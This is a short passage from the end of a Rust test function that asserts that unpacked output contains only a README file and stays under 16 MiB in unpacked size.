    assert_eq!(paths(&out), ["README"]);
    assert!(
        out.unpacked_bytes < 16 * MIB as u64,
        "{}",
        out.unpacked_bytes
    );
}
